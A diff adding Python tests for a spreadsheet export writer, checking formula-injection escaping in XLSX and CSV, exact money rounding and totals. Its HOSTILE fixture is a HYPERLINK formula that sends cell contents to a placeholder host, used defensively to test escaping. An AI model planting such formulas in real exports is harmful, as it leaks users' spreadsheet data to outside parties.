@@ -1,0 +1,92 @@
+"""The one export writer: user text is always text, amounts exact to the fen, totals that add up."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from datetime import date
+from decimal import Decimal
+
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from supply.core.sheets import Column, Sheet, write_csv, write_xlsx
+from supply.core.text import FORMULA_START, csv_text, uncsv_text
+
+HOSTILE = '=HYPERLINK("http://x/?d="&A1,"点击")'
+
+
+def table(*rows: list[object], totals: bool = True) -> Sheet:
+    return Sheet(
+        name="表",
+        columns=[
+            Column("名称"),
+            Column("数量", "int", total=True),
+            Column("金额(元)", "money", total=True),
+            Column("日期", "date"),
+        ],
+        rows=list(rows),
+        totals=totals,
+    )
+
+
+def formulas(content: bytes) -> list[str]:
+    """Every formula in the workbook's sheets, read from the XML itself."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        found = []
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                xml = archive.read(name).decode()
+                found += [part.split("</f>")[0] for part in xml.split("<f>")[1:]]
+        return found
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_xlsx() -> None:
+    content = write_xlsx([table([HOSTILE, 1, Decimal("10.5"), date(2026, 12, 1)],
+                                ["+1+1", 2, Decimal(0), None], ["@SUM(A1)", 3, 1, None])])  # fmt: skip
+    assert formulas(content) == ["SUBTOTAL(109,B2:B4)", "SUBTOTAL(109,C2:C4)"]
+    sheet = load_workbook(io.BytesIO(content))["表"]
+    assert [(sheet.cell(r, 1).value, sheet.cell(r, 1).data_type) for r in (2, 3, 4)] == [
+        (HOSTILE, "s"),
+        ("+1+1", "s"),
+        ("@SUM(A1)", "s"),
+    ]
+
+
+def test_amounts_are_written_to_the_fen_with_a_money_format_and_totals_are_exact() -> None:
+    noisy = 52594.07999999999  # what float arithmetic gave the old exports
+    content = write_xlsx([table(["a", 1, noisy, None], ["b", 2, Decimal("0.015"), None])])
+    values = load_workbook(io.BytesIO(content), data_only=True)["表"]
+    assert [values.cell(r, 3).value for r in (2, 3)] == [52594.08, 0.02]
+    assert values.cell(2, 3).number_format == "#,##0.00"
+    assert [values.cell(4, c).value for c in (1, 2, 3)] == ["合计 / total (2 行)", 3, 52594.1]
+
+
+def test_an_empty_table_has_a_header_and_no_totals_row() -> None:
+    content = write_xlsx([table()])
+    sheet = load_workbook(io.BytesIO(content))["表"]
+    assert sheet.max_row == 1 and formulas(content) == []
+
+
+def test_csv_cells_of_user_text_are_escaped_by_the_owasp_rule() -> None:
+    content = write_csv(table([HOSTILE, 1, Decimal("1.234"), date(2026, 12, 1)],
+                              ["-负数名", 2, Decimal(-5), None], ["\tx", 3, 0, None]))  # fmt: skip
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    assert rows[1] == ["'" + HOSTILE, "1", "1.23", "2026-12-01"]
+    assert rows[2] == ["'-负数名", "2", "-5.00", ""]  # a negative amount is a number, not text
+    assert rows[3][0] == "'\tx"
+    assert rows[4] == ["合计 / total (3 行)", "6", "-3.77", ""]
+
+
+@given(st.text(max_size=12))
+def test_the_csv_rule_is_undone_exactly_when_read_back(text: str) -> None:
+    escaped = csv_text(text)
+    assert uncsv_text(escaped) == text
+    assert not escaped.startswith(FORMULA_START)
+
+
+@given(st.sampled_from(FORMULA_START), st.text(max_size=8))
+def test_every_formula_start_is_escaped(start: str, rest: str) -> None:
+    assert csv_text(start + rest) == "'" + start + rest
